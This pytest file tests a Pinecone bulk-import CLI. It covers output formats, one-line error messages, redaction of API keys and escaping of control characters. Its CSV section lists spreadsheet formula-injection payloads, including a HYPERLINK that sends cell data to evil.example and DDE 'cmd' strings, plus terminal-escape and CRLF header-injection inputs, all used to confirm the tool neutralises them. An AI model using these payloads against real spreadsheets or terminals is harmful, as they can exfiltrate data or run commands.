"""The pinecone-imports command: list, demo, emulator; errors as one line and an exit code."""

from __future__ import annotations

import io
import json
import os
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import requests
from faketime import FakeTime

import pinecone_imports_frame as pif
from pinecone_imports_frame import schema
from pinecone_imports_frame._text import printable
from pinecone_imports_frame.cli import main
from pinecone_imports_frame.emulator import Emulator


def _conn(emu: Emulator) -> list[str]:
    return ["--host", emu.url, "--api-key", emu.api_key]


def test_list_as_table(imports_emulator: Emulator, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["list", *_conn(imports_emulator)]) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[0].split()[:3] == ["id", "status", "created_at"]
    assert len(out.splitlines()) == 251
    assert all(r["id"] in out for r in imports_emulator.records())


def test_list_as_csv_json_parquet(
    imports_emulator: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    ids = [r["id"] for r in imports_emulator.records()]
    assert main(["list", *_conn(imports_emulator), "--format", "csv"]) == 0
    csv = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype={"id": str})
    assert csv["id"].tolist() == ids and list(csv.columns) == list(schema.COLUMN_NAMES)
    assert main(["list", *_conn(imports_emulator), "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["id"] for r in rows] == ids
    out = tmp_path / "imports.parquet"
    assert main(["list", *_conn(imports_emulator), "--format", "parquet", "-o", str(out)]) == 0
    assert pd.read_parquet(out)["id"].tolist() == ids


def test_an_output_file_s_ending_picks_the_format_unless_one_is_given(
    imports_emulator: Emulator, tmp_path: Path
) -> None:
    """list -o imports.json wrote a fixed-width text table into imports.json."""
    ids = [r["id"] for r in imports_emulator.records()]
    for name, read in (
        ("a.json", lambda p: [r["id"] for r in json.loads(p.read_text())]),
        ("a.CSV", lambda p: pd.read_csv(p, dtype={"id": str})["id"].tolist()),
        ("a.parquet", lambda p: pd.read_parquet(p)["id"].tolist()),
    ):
        out = tmp_path / name
        assert main(["list", *_conn(imports_emulator), "-o", str(out), "--no-progress"]) == 0
        assert read(out) == ids, name
    given = tmp_path / "b.json"
    assert main(["list", *_conn(imports_emulator), "-o", str(given), "--format", "csv"]) == 0
    assert given.read_text().startswith('"id",')  # --format wins
    text = tmp_path / "c.txt"
    assert main(["list", *_conn(imports_emulator), "-o", str(text), "--no-progress"]) == 0
    assert text.read_text().split()[:2] == ["id", "status"]  # the table


def test_errors_are_one_line_and_an_exit_code(
    imports_emulator: Emulator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PINECONE_API_KEY", raising=False)
    assert main(["list", "--host", imports_emulator.url]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "PINECONE_API_KEY" in err and "Traceback" not in err
    assert main(["list", "--host", imports_emulator.url, "--api-key", "bad"]) == 1
    err = capsys.readouterr().err
    assert "401" in err and "Unauthorized" in err and "bad" not in err.replace("--", "")
    with pytest.raises(SystemExit) as info:
        main(["list", *_conn(imports_emulator), "--page-size", "500"])
    assert info.value.code == 2
    assert "--page-size" in capsys.readouterr().err


def test_demo_runs_offline_and_summarises(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PINECONE_")}
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "pinecone_imports_frame",
            "demo",
            "--imports",
            "400",
            "--out-dir",
            str(tmp_path),
            "--no-progress",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert "400 imports" in out and "by status:" in out and "Completed" in out
    assert "duration of completed imports:" in out and "p50" in out
    assert "throughput:" in out and "failed (" in out
    frame = pd.read_parquet(tmp_path / "imports.parquet")
    assert len(frame) == 400
    assert str(tmp_path / "imports.parquet") in out


def test_emulator_command_prints_its_url_first_and_serves(tmp_path: Path) -> None:
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "pinecone_imports_frame",
            "emulator",
            "--port",
            "0",
            "--imports",
            "30",
            "--seed",
            "3",
            "--api-key",
            "k-123",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert proc.stdout is not None
        url = proc.stdout.readline().strip()
        assert url.startswith("http://127.0.0.1:")
        body = requests.get(f"{url}/bulk/imports", headers={"Api-Key": "k-123"}, timeout=10).json()
        assert len(body["data"]) == 30
        with Emulator(imports=30, seed=3) as same:
            assert [r["id"] for r in body["data"]] == [r["id"] for r in same.records()]
    finally:
        proc.send_signal(signal.SIGINT)
        proc.wait(timeout=10)
    assert proc.returncode in (0, 130)


def test_snapshot_snapshots_and_prune(
    imports_emulator: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    from pinecone_imports_frame import read_snapshots

    lake = tmp_path / "lake"
    for _ in range(3):
        assert main(["snapshot", *_conn(imports_emulator), "--to", str(lake)]) == 0
        imports_emulator.advance(600)
    out = capsys.readouterr().out
    assert out.count(" imports -> ") == 3
    assert len(read_snapshots(lake)) >= 750

    assert main(["snapshots", str(lake), "--format", "csv"]) == 0
    inventory = pd.read_csv(io.StringIO(capsys.readouterr().out))
    assert len(inventory) == 3 and (inventory["index_host"] == imports_emulator.address).all()

    assert main(["prune", str(lake), "--keep-last", "1", "--dry-run"]) == 0
    assert "would remove 2 snapshots" in capsys.readouterr().out
    assert len(pd.read_csv(io.StringIO(_inventory_csv(lake, capsys)))) == 3
    assert main(["prune", str(lake), "--keep-last", "1"]) == 0
    assert "removed 2 snapshots" in capsys.readouterr().out
    assert len(pd.read_csv(io.StringIO(_inventory_csv(lake, capsys)))) == 1

    assert main(["prune", str(lake)]) == 2
    assert "--older-than" in capsys.readouterr().err


def _inventory_csv(lake: Path, capsys: pytest.CaptureFixture[str]) -> str:
    assert main(["snapshots", str(lake), "--format", "csv"]) == 0
    return capsys.readouterr().out


@pytest.fixture
def fake_time(monkeypatch: pytest.MonkeyPatch) -> FakeTime:
    return FakeTime().install(monkeypatch)


def test_snapshot_every_survives_a_failed_poll(
    imports_emulator: Emulator,
    tmp_path: Path,
    fake_time: FakeTime,
    capsys: pytest.CaptureFixture[str],
) -> None:
    lake = tmp_path / "lake"
    imports_emulator.inject("status", status=503, times=2)  # the first poll fails (1 retry)
    args = ["snapshot", *_conn(imports_emulator), "--to", str(lake), "--max-retries", "1"]
    assert main([*args, "--every", "5m", "--count", "3"]) == 0
    captured = capsys.readouterr()
    assert len(list(lake.glob("**/*.parquet"))) == 2  # polls 2 and 3
    assert captured.err.count("503") == 1  # the failure is reported once, not twice
    assert "Traceback" not in captured.err
    assert fake_time.sleeps == [300.0, 300.0]


def test_snapshot_every_stops_on_a_permanent_error(
    imports_emulator: Emulator,
    tmp_path: Path,
    fake_time: FakeTime,
    capsys: pytest.CaptureFixture[str],
) -> None:
    lake = tmp_path / "lake"
    args = ["snapshot", "--host", imports_emulator.url, "--api-key", "wrong-key-123456"]
    assert main([*args, "--to", str(lake), "--every", "5m"]) == 1  # no --count: would loop
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "401" in err
    assert fake_time.sleeps == []


def test_snapshot_every_skips_missed_ticks_instead_of_bursting(
    imports_emulator: Emulator,
    tmp_path: Path,
    fake_time: FakeTime,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from pinecone_imports_frame.cli import snapshot_command as cli

    real_read = cli._read
    calls: list[float] = []

    def slow_read(args: object, **kw: object) -> pd.DataFrame:
        calls.append(fake_time.now)
        if len(calls) == 1:
            fake_time.now += 1000.0  # the first poll takes 16 minutes: 3 ticks are missed
        return real_read(args, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(cli, "_read", slow_read)
    lake = tmp_path / "lake"
    args = ["snapshot", *_conn(imports_emulator), "--to", str(lake), "--every", "5m"]
    assert main([*args, "--count", "3"]) == 0
    assert [t - calls[0] for t in calls] == [0.0, 1200.0, 1500.0]


def test_snapshot_every_takes_a_bare_number_as_seconds(
    imports_emulator: Emulator, tmp_path: Path, fake_time: FakeTime
) -> None:
    """--every 5 drained the listing 400 times in 5 seconds (5 ns); it is 5 seconds."""
    lake = tmp_path / "lake"
    args = ["snapshot", *_conn(imports_emulator), "--to", str(lake), "--every", "5"]
    assert main([*args, "--count", "3"]) == 0
    assert fake_time.sleeps == [5.0, 5.0]
    assert len(list(lake.glob("**/*.parquet"))) == 3


def test_snapshot_every_to_an_unwritable_lake_stops_before_the_first_poll(
    imports_emulator: Emulator, fake_time: FakeTime, capsys: pytest.CaptureFixture[str]
) -> None:
    """It retried a permanent error (an unwritable root) for ever."""
    args = ["snapshot", *_conn(imports_emulator), "--to", "/proc/no-lake-here", "--every", "5m"]
    assert main(args) == 1  # no --count: would loop
    assert "cannot write snapshots" in capsys.readouterr().err
    assert fake_time.sleeps == [] and imports_emulator.requests == []


@pytest.mark.parametrize("every", ["0.1", "0", "-5", "5x", "nan"])
def test_snapshot_every_refuses_intervals_under_a_second(
    every: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as info:
        main(["snapshot", "--host", "127.0.0.1:1", "--to", str(tmp_path), "--every", every])
    assert info.value.code == 2
    err = capsys.readouterr().err
    assert "PERIOD" in err and "Traceback" not in err
    assert "30s" in err and "5m" in err  # the accepted forms are named
    assert list(tmp_path.iterdir()) == []


def test_snapshot_to_an_unwritable_lake_fails_before_listing(
    imports_emulator: Emulator, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["snapshot", *_conn(imports_emulator), "--to", "/proc/no-lake-here"]) == 1
    assert "cannot write snapshots" in capsys.readouterr().err
    assert imports_emulator.requests == []  # nothing was sent


# --- the command line as a careful user meets it (issue 7) ----------------------------------

BAD_ARGUMENTS = [
    ["list", "--page-size", "500"],
    ["list", "--page-size", "ten"],
    ["list", "--timeout", "nan"],
    ["list", "--timeout", "-1"],
    ["list", "--max-retries", "-2"],
    ["list", "--format", "xml"],
    ["demo", "--imports", "-1"],
    ["demo", "--imports", "10000000000"],
    ["demo", "--seed", "x"],
    ["snapshot", "--host", "h"],  # no --to
    ["snapshot", "--to", "lake", "--every", "0.1"],
    ["snapshot", "--to", "lake", "--every", "5", "--count", "0"],
    ["prune", "lake", "--older-than", "90"],
    ["prune", "lake", "--keep-last", "-1"],
    ["nosuchcommand"],
    [],
]


@pytest.mark.parametrize("argv", BAD_ARGUMENTS, ids=lambda a: " ".join(a) or "nothing")
def test_argument_errors_are_one_line_and_status_2(
    argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as info:
        main(argv)
    assert info.value.code == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1, err
    assert err.startswith("pinecone-imports") and "error:" in err and "Traceback" not in err


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["prune", "lake", "--older-than", "45"], "AGE has no unit"),
        (["compact", "lake", "--older-than", "200000d"], "AGE is longer than 100 years"),
        (["compact", "lake", "--older-than", "0h"], "AGE is not a positive duration"),
        (["snapshot", "--to", "lake", "--every", "0.5"], "PERIOD is under one second"),
        (["watch", "--interval", "fortnightly"], "PERIOD is not a duration"),
        (["trends", "lake", "--since", "yesterdayish"], "must be a UTC time"),
    ],
)
def test_an_argument_error_names_its_own_cause_without_the_value(
    argv: list[str], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit):
        main(argv)
    err = capsys.readouterr().err
    assert said in err and argv[-1] not in err, err


def test_a_mistyped_key_option_is_never_echoed(capsys: pytest.CaptureFixture[str]) -> None:
    secret = "pcsk_mistyped_0123456789abcdef"
    with pytest.raises(SystemExit):
        main(["list", "--apikey", secret])
    err = capsys.readouterr().err
    assert "--apikey" in err and secret not in err
    for i in range(len(secret) - 7):
        assert secret[i : i + 8] not in err
    with pytest.raises(SystemExit):
        main(["list", f"--apikey={secret}"])
    assert secret[:12] not in capsys.readouterr().err


def test_verbose_and_no_progress_work_after_the_subcommand(
    imports_emulator: Emulator, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["list", *_conn(imports_emulator), "--format", "csv", "-v", "--no-progress"]) == 0
    err = capsys.readouterr().err
    assert "DEBUG" in err and "GET /bulk/imports page 1" in err
    assert "pages" not in err.replace("page 1", "")  # no bar
    assert main(["-v", "list", *_conn(imports_emulator), "--format", "csv"]) == 0
    assert "DEBUG" in capsys.readouterr().err


def test_csv_and_json_write_the_same_values(
    imports_emulator: Emulator, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["list", *_conn(imports_emulator), "--format", "json"]) == 0
    text = capsys.readouterr().out
    assert "\\/" not in text and "s3://" in text  # grep s3:// finds the URIs
    rows = json.loads(text)
    assert main(["list", *_conn(imports_emulator), "--format", "csv"]) == 0
    csv = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str, keep_default_na=False)
    done = next(r for r in rows if r["status"] == "Completed")
    line = csv[csv["id"] == done["id"]].iloc[0]
    for name in ("created_at", "finished_at"):
        assert done[name].endswith("Z") and line[name] == done[name]
        assert pd.Timestamp(done[name]).tzinfo is not None
    assert done["listed_at"].endswith("Z") and line["listed_at"].endswith("Z")
    assert isinstance(done["duration"], float) and float(line["duration"]) == done["duration"]
    assert done["duration"] == pytest.approx(
        (pd.Timestamp(done["finished_at"]) - pd.Timestamp(done["created_at"])).total_seconds()
    )
    running = next(r for r in rows if r["status"] == "InProgress")
    assert running["finished_at"] is None and running["duration"] is None


def test_table_output_escapes_control_characters(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200")  # wide enough that the error is not cut
    records = [
        {
            "id": "1\x1b[2J",
            "uri": "s3://b/p",
            "status": "Failed",
            "createdAt": "2025-05-01T00:00:00Z",
            "error": "bad\x1b]0;owned\x07 file\rline\u202egnp.exe",
        }
    ]
    with Emulator(records=records) as emu:
        assert main(["list", *_conn(emu)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert "\u202e" not in out  # a direction override would show the text reversed
    assert "\\x1b" in out and "\\u202e" in out


def test_a_closed_pipe_ends_quietly(imports_emulator: Emulator) -> None:
    proc = subprocess.run(
        f"{sys.executable} -m pinecone_imports_frame list --host {imports_emulator.url} "
        f"--api-key {imports_emulator.api_key} --format csv | head -n 1",
        shell=True,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.stdout.startswith('"id",')
    assert proc.stderr == ""


# --- listings where no import, or every import, has an error ------------------------------

_DONE = {
    "uri": "s3://b/p",
    "status": "Completed",
    "createdAt": "2025-05-01T10:00:00Z",
    "finishedAt": "2025-05-01T10:30:00Z",
}
_FAILED = {**_DONE, "status": "Failed", "error": "bad\x1b[31m file " + "x" * 60}
_LISTINGS = {
    "all successful": [{"id": str(i), **_DONE} for i in range(3)],
    "all failed": [{"id": str(i), **_FAILED} for i in range(3)],
}


@pytest.mark.parametrize("fmt", ["table", "csv", "json", "parquet"])
@pytest.mark.parametrize("listing", list(_LISTINGS))
def test_every_format_lists_all_successful_and_all_failed_imports(
    listing: str,
    fmt: str,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("COLUMNS", "80")  # the table fits 80 columns: the error is cut
    # An all-NA error column (no import failed) once lost its string dtype on the way to
    # the table, and the table crashed with a traceback.
    records = _LISTINGS[listing]
    failed = listing == "all failed"
    out_file = tmp_path / "imports.parquet"
    extra = ["-o", str(out_file)] if fmt == "parquet" else []
    with Emulator(records=records) as emu:
        assert main(["list", *_conn(emu), "--no-progress", "--format", fmt, *extra]) == 0
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    if fmt == "parquet":
        errors = pd.read_parquet(out_file)["error"].tolist()
    elif fmt == "csv":
        csv = pd.read_csv(io.StringIO(captured.out), dtype=str, keep_default_na=False)
        errors = csv["error"].tolist()
    elif fmt == "json":
        errors = [row["error"] for row in json.loads(captured.out)]
    else:
        lines = captured.out.splitlines()
        assert lines[0].split()[0] == "id" and lines[0].split()[-1] == "error"
        assert [line.split()[0] for line in lines[1:]] == ["0", "1", "2"]
        cells = [line.split(None, 1)[1] for line in lines[1:]]
        if failed:  # escaped, then cut to fit the line, with an ellipsis
            error = [c.rsplit("  ", 1)[1] for c in cells]
            assert all(e.startswith("bad\\x1b[31m") and e.endswith("...") for e in error)
            assert all(printable(_FAILED["error"]).startswith(e[:-3]) for e in error), error
        else:  # a missing value is a dash
            assert all(c.endswith(" -") for c in cells), cells
        return
    if failed:
        assert errors == [_FAILED["error"]] * 3
    else:
        assert all(pd.isna(e) or e == "" for e in errors), errors


def test_csv_and_json_write_years_0001_and_9999_as_rfc_3339(
    capsys: pytest.CaptureFixture[str],
) -> None:
    # Go's zero time is a created_at the API may send. strftime("%Y") wrote year 1 as "1"
    # (pandas 2), and total_seconds() lost the last microsecond of a long duration (pandas 3).
    records = [
        {
            "id": "1",
            "uri": "s3://b/p",
            "status": "Completed",
            "createdAt": "0001-01-01T00:00:00Z",
            "finishedAt": "9999-12-31T23:59:59.999999Z",
        }
    ]
    with Emulator(records=records) as emu:
        assert main(["list", *_conn(emu), "--no-progress", "--format", "json"]) == 0
        (row,) = json.loads(capsys.readouterr().out)
        assert main(["list", *_conn(emu), "--no-progress", "--format", "csv"]) == 0
        csv = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str).iloc[0]
    for got in (row, csv):
        assert got["created_at"] == "0001-01-01T00:00:00.000000Z"
        assert got["finished_at"] == "9999-12-31T23:59:59.999999Z"
    assert row["duration"] == 315_537_897_599.999999  # the nearest float, on any pandas
    assert float(csv["duration"]) == row["duration"]


# --- a value typed in the wrong place is never repeated (it may be the key) ----------------

KEY = "pcsk_TOP-SECRET-4f9a1c"
_OFFLINE = ["--host", "127.0.0.1:9", "--api-key", "x"]  # nothing listens: never reached
#: (argv, what the message must name) for every option that checks its value.
VALUE_ERRORS = [
    (["list", "--api-version", KEY], "--api-version"),
    (["list", "--format", KEY], "--format"),
    ([KEY], "COMMAND"),
    (["list", "--page-size", KEY], "--page-size"),
    (["list", "--timeout", KEY], "--timeout"),
    (["list", "--max-retries", KEY], "--max-retries"),
    (["list", "--all-indexes", "--max-workers", KEY], "--max-workers"),
    (["list", f"--all-indexes={KEY}"], "--all-indexes"),
    (["list", f"--progress={KEY}"], "--progress"),
    ([f"--verbose={KEY}", "list"], "--verbose"),
    (["list", f"--p={KEY}"], "--p"),  # ambiguous: --page-size or --progress
    (["demo", "--imports", KEY], "--imports"),
    (["demo", "--seed", KEY], "--seed"),
    (["watch", "--interval", KEY, *_OFFLINE], "--interval"),
    (["watch", "--until", KEY, *_OFFLINE], "--until"),
    (["watch", "--storage-option", KEY, *_OFFLINE], "--storage-option"),
    (["snapshot", "--every", KEY, "--to", "L", *_OFFLINE], "--every"),
    (["snapshot", "--to", "L", "--every", "5", "--count", KEY, *_OFFLINE], "--count"),
    (["snapshot", "--to", "L", "--compact-after", KEY, *_OFFLINE], "--compact-after"),
    (["snapshot", "--to", "L", "--storage-option", KEY, *_OFFLINE], "--storage-option"),
    (["trends", "L", "--listings", KEY], "--listings"),
    (["trends", "L", "--since", KEY], "--since"),
    (["report", "L", "-o", "r.html", "--until", KEY], "--until"),
    (["snapshots", "L", "--format", KEY], "--format"),
    (["snapshots", "L", "--storage-option", KEY], "--storage-option"),
    (["prune", "L", "--older-than", KEY], "--older-than"),
    (["prune", "L", "--keep-last", KEY], "--keep-last"),
    (["compact", "L", "--older-than", KEY], "--older-than"),
    (["emulator", "--port", KEY], "--port"),
    (["emulator", "--imports", KEY], "--imports"),
    (["emulator", "--seed", KEY], "--seed"),
    (["emulator", "--speed", KEY], "--speed"),
]


@pytest.mark.parametrize(
    ("argv", "option"), VALUE_ERRORS, ids=[" ".join(a).replace(KEY, "KEY") for a, _ in VALUE_ERRORS]
)
def test_an_argument_error_names_the_option_never_the_value(
    argv: list[str],
    option: str,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)  # a lake "L" or a report would be made here, if it got that far
    try:
        code = main(argv)
    except SystemExit as exc:
        code = exc.code
    assert code == 2
    out, err = capsys.readouterr()
    assert err.count("\n") == 1 and err.startswith("pinecone-imports"), err
    assert option in err and "Traceback" not in err, err
    for i in range(len(KEY) - 5):  # not the value, nor a piece of it
        assert KEY[i : i + 6] not in out + err, err


def test_compact_with_nothing_old_enough_says_why(tmp_path: Path) -> None:
    """It printed "would merge 0 files into 0 (0 listings)" and left the user guessing."""
    import subprocess
    import sys

    from pinecone_imports_frame.frame import to_frame
    from pinecone_imports_frame.snapshots import write_snapshot

    now = pd.Timestamp.now(tz="UTC")
    for minutes in (1, 2):
        listed = now - pd.Timedelta(minutes=minutes)
        write_snapshot(to_frame([{"id": "1"}], listed_at=listed, index_host="h"), tmp_path)
    run = subprocess.run(
        [sys.executable, "-m", "pinecone_imports_frame.cli", "compact", str(tmp_path), "--dry-run"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0
    assert "nothing to merge: no day older than 1d00h00m" in run.stdout


@pytest.mark.parametrize(
    "bad", ["pcsk_cli_SECRET_4f9a\r\nX-Injected: 1", "pcsk_cli_\u00e9_SECRET_4f9a"]
)
def test_a_malformed_key_is_one_line_on_stderr_never_quoted(
    bad: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A key with CR/LF or a non-ASCII character reached stderr whole (a raw header error)."""
    monkeypatch.setenv("PINECONE_API_KEY", bad)
    assert main(["list", "--host", "127.0.0.1:9", "--no-progress"]) == 2
    captured = capsys.readouterr()
    assert captured.err.count("\n") == 1 and "non-ASCII" in captured.err
    assert "SECRET" not in captured.err + captured.out


# --- CSV opened in a spreadsheet: data, never formulas ----------------------------------

#: What whoever starts an import can put in its URI (or an error text, an index name).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    's3://b/ok\r=HYPERLINK("http://evil.example")',  # a CR inside: a row of its own?
]


def _spreadsheet_rows(text: str) -> list[list[str]]:
    """Read CSV as a spreadsheet does: a CR outside quotes ends a row too."""
    import csv as csvlib

    return list(csvlib.reader(io.StringIO(text, newline="")))


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_prefixed(
    start_emulator: Any, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    records = [
        {"id": str(i), "uri": text, "status": "Failed", "error": text,
         "createdAt": "2025-05-01T10:00:00Z", "finishedAt": "2025-05-01T09:00:00Z"}
        for i, text in enumerate(FORMULAS)
    ]  # fmt: skip
    emu = start_emulator(records=records)
    assert main(["list", *_conn(emu), "--format", "csv"]) == 0
    out = tmp_path / "imports.csv"
    assert main(["list", *_conn(emu), "-o", str(out)]) == 0
    for text in (capsys.readouterr().out, out.read_bytes().decode("utf-8")):
        header, *rows = _spreadsheet_rows(text)
        assert len(rows) == len(FORMULAS)  # no CR started a row of its own
        got = [dict(zip(header, row, strict=True)) for row in rows]
        safe = [t if t.startswith("s3://") else "'" + t for t in FORMULAS]
        assert [r["uri"] for r in got] == safe and [r["error"] for r in got] == safe
        # A negative number is a number: a clock that ran backwards, not a formula.
        assert {r["duration"] for r in got} == {"-3600.0"}
        assert '"duration"' in text and ",-3600.0," in text  # unquoted: a number


def test_the_snapshots_csv_prefixes_formulas_too(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    listing = pif.to_frame(
        [{"id": "1", "uri": "s3://b/", "status": "Completed", "createdAt": "2025-05-01T10:00:00Z"}],
        listed_at="2025-05-01T11:00:00Z",
        index_host="idx.example:443",
        index_name="=cmd|' /C calc'!A0",
    )
    pif.write_snapshot(listing, tmp_path)
    assert main(["snapshots", str(tmp_path), "--format", "csv"]) == 0
    header, row = _spreadsheet_rows(capsys.readouterr().out)
    line = dict(zip(header, row, strict=True))
    assert line["index_name"] == "'=cmd|' /C calc'!A0" and line["rows"] == "1"


# --- consoles that are not UTF-8 ----------------------------------------------------------

_ENCODINGS = {
    "PYTHONIOENCODING=ascii": {"PYTHONIOENCODING": "ascii"},
    "LC_ALL=C, no UTF-8 mode": {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
}


@pytest.mark.parametrize("console", list(_ENCODINGS))
def test_a_console_that_is_not_utf8_gets_escapes_not_a_traceback(
    start_emulator: Any, console: str
) -> None:
    record = {"id": "café-☃", "uri": "s3://b/ü/", "status": "Failed", "error": "naïve ☃",
              "createdAt": "2025-05-01T10:00:00Z",
              "finishedAt": "2025-05-01T10:05:00Z"}  # fmt: skip
    emu = start_emulator(records=[record])
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PINECONE_", "LC_", "LANG"))}
    for fmt in ("table", "csv", "json"):
        proc = subprocess.run(
            [sys.executable, "-m", "pinecone_imports_frame", "list", "--host", emu.url,
             "--api-key", emu.api_key, "--format", fmt, "--no-progress"],
            capture_output=True, timeout=120, env={**env, **_ENCODINGS[console]}, check=False,
        )  # fmt: skip
        assert proc.returncode == 0, proc.stderr.decode("ascii", "replace")
        assert proc.stderr == b"" and b"caf\\xe9-\\u2603" in proc.stdout, fmt


def test_a_title_the_locale_cannot_decode_is_replaced_not_a_traceback(tmp_path: Path) -> None:
    """Under LC_ALL=C, a --title in Latin-1 arrives as lone surrogates: no UTF-8 holds them."""
    lake = tmp_path / "lake"
    listing = pif.to_frame(
        [{"id": "1", "uri": "s3://b/", "status": "Completed", "createdAt": "2025-05-01T10:00:00Z"}],
        listed_at="2025-05-01T11:00:00Z",
        index_host="i:1",
    )
    pif.write_snapshot(listing, lake)
    out = tmp_path / "r.html"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PINECONE_", "LC_", "LANG"))}
    proc = subprocess.run(
        [sys.executable.encode(), b"-m", b"pinecone_imports_frame", b"report", bytes(lake),
         b"-o", bytes(out), b"--title", b"Caf\xe9 \xff weekly"],
        capture_output=True, timeout=120, env={**env, "LC_ALL": "C"}, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr.decode("ascii", "replace")
    assert proc.stderr == b""
    assert "<title>Caf\ufffd \ufffd weekly</title>" in out.read_text(encoding="utf-8")
